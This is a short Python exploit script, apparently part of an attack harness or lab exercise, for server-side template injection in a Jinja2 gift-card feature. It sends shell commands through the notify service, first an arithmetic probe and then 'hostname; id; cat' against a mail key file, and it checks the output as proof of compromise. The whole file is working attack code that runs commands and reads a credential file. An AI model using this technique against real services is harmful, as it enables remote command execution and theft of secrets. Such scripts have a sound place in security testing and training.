#!/usr/bin/python3 -B
"""Template injection: a gift card is a Jinja2 template, and finds its way to os (CWE-1336)."""

from attack import Attack

KEY = "/etc/shop/mail.key"


def run(attack: Attack) -> bool:
    sum_ = attack.notify("echo $((191 * 7))")
    said = attack.notify(f"hostname; id; cat {KEY}")
    attack.replicas["notify"] = said.split("\n")[0]
    return attack.prove(sum_ == "1337" and "notify-9a60" in said, said=said)


Attack("T1190, T1059.006", ["edge", "front", "notify"], [KEY]).main(run)
